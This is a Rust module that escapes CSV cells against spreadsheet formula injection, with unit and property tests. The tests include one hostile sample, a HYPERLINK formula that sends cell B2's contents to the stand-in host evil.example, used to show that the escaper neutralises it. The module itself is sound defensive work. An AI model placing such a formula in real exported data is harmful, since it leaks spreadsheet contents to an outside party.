//! Writes the cells of CSV files, and reads the cells that it wrote.
//!
//! A spreadsheet runs a cell as a formula if it begins with `=`, `+`, `-` or `@`. Some spreadsheets
//! also accept the full-width signs. A spreadsheet may also split a file at another separator than
//! the intended one. Then it ignores quotation marks in the middle of a cell.
//!
//! So this module puts an apostrophe before each of these signs at the beginning of a text, or
//! after a semicolon, a tab or a line end. White space and quotation marks may precede the sign.
//! [`unescape_formulas`] removes exactly these apostrophes.
//!
//! No other code writes cells of CSV files.

use std::{borrow::Cow, iter};

/// The byte order mark at the beginning of a CSV file in UTF-8.
///
/// Spreadsheets write it, and some need it to read the file as UTF-8.
pub const BYTE_ORDER_MARK: &str = "\u{feff}";

/// Makes a text harmless for spreadsheets. [`unescape_formulas`] returns the original text.
#[must_use]
pub fn escape_formulas(text: &str) -> Cow<'_, str> {
    if !text.contains(|c| is_sign(c) || is_break(c)) {
        return Cow::Borrowed(text);
    }
    let harmful = find_formula_starts(text);
    let mut escaped = String::with_capacity(text.len() + 1);
    for (c, is_harmful) in text.chars().zip(harmful) {
        if is_harmful {
            escaped.push('\'');
        }
        escaped.push(c);
    }
    Cow::Owned(escaped)
}

/// Returns the text from which [`escape_formulas`] made a cell.
///
/// A cell that [`escape_formulas`] does not produce is returned unchanged.
#[must_use]
pub fn unescape_formulas(cell: &str) -> Cow<'_, str> {
    if !cell.contains('\'') {
        return Cow::Borrowed(cell);
    }
    // An apostrophe is an escape if the text after it would need one.
    let harmful = find_formula_starts(cell);
    let following = cell.chars().skip(1).map(Some).chain(iter::once(None));
    let mut text = String::with_capacity(cell.len());
    for ((c, next), is_harmful) in cell.chars().zip(following).zip(harmful) {
        if !(c == '\'' && is_harmful && next.is_some()) {
            text.push(c);
        }
    }
    Cow::Owned(text)
}

/// Writes a text from outside as a cell: harmless, in quotation marks (RFC 4180).
#[must_use]
pub fn quoted_cell(text: &str) -> String {
    format!("\"{}\"", escape_formulas(text).replace('"', "\"\""))
}

/// Writes a text from outside as a cell: harmless, in quotation marks if it needs them.
#[must_use]
pub fn cell(text: &str) -> Cow<'_, str> {
    let escaped = escape_formulas(text);
    let needs_marks = escaped.contains([',', ';', '|', '"', '\t', '\r', '\n']) || escaped.trim() != escaped;
    if needs_marks { Cow::Owned(quoted_cell(text)) } else { escaped }
}

/// Joins cells to a row without a line end.
///
/// The cells are written by [`quoted_cell`] or [`cell`]. Identifiers and numbers need neither.
#[must_use]
pub fn row<I: IntoIterator<Item: AsRef<str>>>(cells: I) -> String {
    let mut row = String::new();
    for (index, cell) in cells.into_iter().enumerate() {
        if index > 0 {
            row.push(',');
        }
        row.push_str(cell.as_ref());
    }
    row
}

/// For each character, whether a spreadsheet could take it for the beginning of a formula.
///
/// One pass from the end, because the length of a text has no limit.
fn find_formula_starts(text: &str) -> Vec<bool> {
    let characters: Vec<char> = text.chars().collect();
    let mut harmful = vec![false; characters.len()];
    // Whether only skipped characters stand between the next character and a sign, or between the
    // next character and a break.
    let (mut before_sign, mut before_break) = (false, false);
    for (index, is_harmful) in harmful.iter_mut().enumerate().rev() {
        let Some(&c) = characters.get(index) else { continue };
        before_sign = is_sign(c) || (before_sign && is_skipped(c));
        before_break = matches!(c, '\t' | '\r' | '\n') || (before_break && matches!(c, '\'' | '"'));
        let previous = index.checked_sub(1).and_then(|previous| characters.get(previous));
        *is_harmful = match previous {
            None => before_sign || before_break,
            Some(previous) => before_sign && is_break(*previous),
        };
    }
    harmful
}

/// Whether a formula can begin with this character: an ASCII, full-width or small sign.
fn is_sign(c: char) -> bool {
    matches!(
        c,
        '=' | '+' | '-' | '@'
            | '\u{ff1d}' | '\u{ff0b}' | '\u{ff0d}' | '\u{ff20}'
            | '\u{fe66}' | '\u{fe62}' | '\u{fe63}' | '\u{fe6b}'
            // The typographic minus sign, which is read as a minus.
            | '\u{2212}'
    )
}

/// Whether a spreadsheet may begin another cell or row after this character, with any separator.
fn is_break(c: char) -> bool {
    matches!(c, ';' | '\t' | '\r' | '\n')
}

/// Whether a spreadsheet may skip this character before a sign.
fn is_skipped(c: char) -> bool {
    matches!(c, '\'' | '"')
        || c.is_whitespace()
        || c.is_control()
        || acclaim_text::characters::is_invisible(c)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn escapes_every_formula_start() {
        for (text, expected) in [
            (
                "=HYPERLINK(\"http://evil.example/?\"&B2,\"x\")",
                "'=HYPERLINK(\"http://evil.example/?\"&B2,\"x\")",
            ),
            ("+1+1", "'+1+1"),
            ("-1", "'-1"),
            (" @SUM(A1)", "' @SUM(A1)"),
            ("\u{ff1d}1+1", "'\u{ff1d}1+1"),
            ("\"=1", "'\"=1"),
            ("'=1", "''=1"),
            ("\u{feff}=1", "'\u{feff}=1"),
            ("\u{200b}\u{a0}\u{ff20}x", "'\u{200b}\u{a0}\u{ff20}x"),
            ("\0=1", "'\0=1"),
            ("\tx", "'\tx"),
            ("\r=1", "'\r'=1"),
            ("x;=1", "x;'=1"),
            ("x\n \"+1", "x\n' \"+1"),
        ] {
            assert_eq!(escape_formulas(text), expected, "{text:?}");
            assert_eq!(unescape_formulas(expected), text, "{text:?}");
        }
        for text in ["", "a=1", "it's", "'quoted'", "'", "ama@example.org", "a;b", "x - y", "1-2", "a, -b"] {
            assert_eq!(escape_formulas(text), text);
            assert_eq!(unescape_formulas(text), text);
        }
    }

    #[test]
    fn quotes_cells_only_where_needed() {
        assert_eq!(cell("mailto:ama@example.org"), "mailto:ama@example.org");
        assert_eq!(cell("Mensah, Ama"), "\"Mensah, Ama\"");
        assert_eq!(cell("=\"a\""), "\"'=\"\"a\"\"\"");
        assert_eq!(quoted_cell("A \"smart\" field"), "\"A \"\"smart\"\" field\"");
        assert_eq!(row([cell("a"), cell("b c"), cell(" d")]), "a,b c,\" d\"");
    }

    #[test]
    fn escapes_long_text_in_linear_time() {
        let text = format!("{}=", "\t".repeat(2_000_000));
        assert_eq!(unescape_formulas(&escape_formulas(&text)), text);
    }

    proptest! {
        #[test]
        fn escaped_text_round_trips(text in "[\u{feff}\u{ff1d}=+@;,'\"\t\r\n a-c-]{0,24}") {
            let escaped = escape_formulas(&text);
            prop_assert_eq!(unescape_formulas(&escaped), text.as_str());
            for piece in escaped.split([';', '\t', '\r', '\n']) {
                let first = piece.trim_start_matches(|c: char| c.is_whitespace() || c == '"' || c == '\u{feff}').chars().next();
                prop_assert!(!first.is_some_and(is_sign), "{:?}", escaped);
            }
        }

        #[test]
        fn any_text_round_trips(text in "\\PC{0,40}") {
            let escaped = escape_formulas(&text);
            prop_assert_eq!(unescape_formulas(&escaped), text.as_str());
        }
    }
}
